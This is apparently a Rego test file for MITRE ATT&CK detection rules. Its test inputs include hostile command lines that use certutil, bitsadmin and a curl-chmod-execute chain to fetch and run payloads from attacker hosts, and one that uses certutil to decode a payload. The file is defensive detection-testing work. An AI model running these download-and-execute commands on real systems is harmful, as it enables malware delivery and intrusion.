package mitre_test

_certutil := `C:\Windows\System32\certutil.exe`

test_certutil_urlcache if {
	ds := _detections(_proc(_certutil, "certutil.exe -urlcache -split -f http://45.9.1.2/beacon.exe C:\\Users\\Public\\b.exe", _cmd_exe))
	some d in ds
	d.technique == "T1105"
	d.rule == "certutil_urlcache_download"
}

test_certutil_hashfile_is_benign if {
	count(_found(_proc(_certutil, `certutil -hashfile C:\Downloads\installer.msi SHA256`, _cmd_exe))) == 0
}

test_certutil_urlcache_list_is_benign if {
	# Listing the cache touches no URL.
	count(_found(_proc(_certutil, "certutil -urlcache *", _cmd_exe))) == 0
}

test_bitsadmin_transfer if {
	"T1105" in _found(_proc(`C:\Windows\System32\bitsadmin.exe`, `bitsadmin /transfer job /download /priority high http://evil.example/p.exe C:\temp\p.exe`, _cmd_exe))
}

test_bitsadmin_list_is_benign if {
	count(_found(_proc(`C:\Windows\System32\bitsadmin.exe`, "bitsadmin /list /allusers", _cmd_exe))) == 0
}

test_curl_to_tmp_and_chmod if {
	"T1105" in _found(_proc("/usr/bin/bash", "bash -c curl -s http://203.0.113.9/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x", "/usr/sbin/cron"))
}

test_curl_api_call_is_benign if {
	count(_found(_proc("/usr/bin/curl", "curl -s https://api.example.com/health", "/usr/bin/bash"))) == 0
}

test_certutil_decode if {
	"T1140" in _found(_proc(_certutil, `certutil -decode C:\Users\Public\enc.txt C:\Users\Public\payload.exe`, _cmd_exe))
}

test_certutil_dump_is_benign if {
	count(_found(_proc(_certutil, `certutil -dump C:\certs\root.cer`, _cmd_exe))) == 0
}
